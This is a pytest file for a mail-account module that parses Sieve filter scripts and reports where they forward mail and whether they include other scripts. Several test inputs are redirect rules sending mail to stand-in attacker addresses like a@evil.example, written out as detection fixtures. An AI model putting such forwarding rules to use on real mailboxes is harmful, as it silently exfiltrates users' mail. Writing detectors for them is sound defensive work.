"""Where Sieve scripts send mail on, as the desk is told it."""

import pytest

from accounts.mailsessions import sieve


@pytest.mark.parametrize(
    ("script", "found"),
    [
        ('redirect "a@evil.example";', ["a@evil.example"]),
        ('require "copy";\r\nREDIRECT :copy "a@evil.example" ;\r\nkeep;', ["a@evil.example"]),
        ('if header :contains "Subject" "redirect" { discard; }', []),
        ('# redirect "a@evil.example";\n/* redirect\n"b@evil.example"; */ keep;', []),
        ('vacation text:\nredirect "a@evil.example";\n.\n;\nredirect "b@evil.example";', ["b@evil.example"]),
        ('redirect :notify "FAILURE" "a@evil.example";', ["a@evil.example"]),
        (r'redirect "\"odd; name\"@evil.example";', ['"odd; name"@evil.example']),
        ('if true { redirect "a@x.example"; redirect "b@x.example"; }', ["a@x.example", "b@x.example"]),
        ('set "boss" "a@x.example"; redirect "${boss}";', ["${boss}"]),
        ('redirect"a@x.example";', ["a@x.example"]),
        ('redirect "a@x.example', []),
        ("", []),
    ],
)
def test_where_mail_is_sent_on(script: str, found: list[str]) -> None:
    assert sieve.forwards(script) == found


def test_another_script_counts_where_it_is_included() -> None:
    assert sieve.includes('require "include";\ninclude :personal "b";')
    assert not sieve.includes('# include "b";\nfileinto "include";')
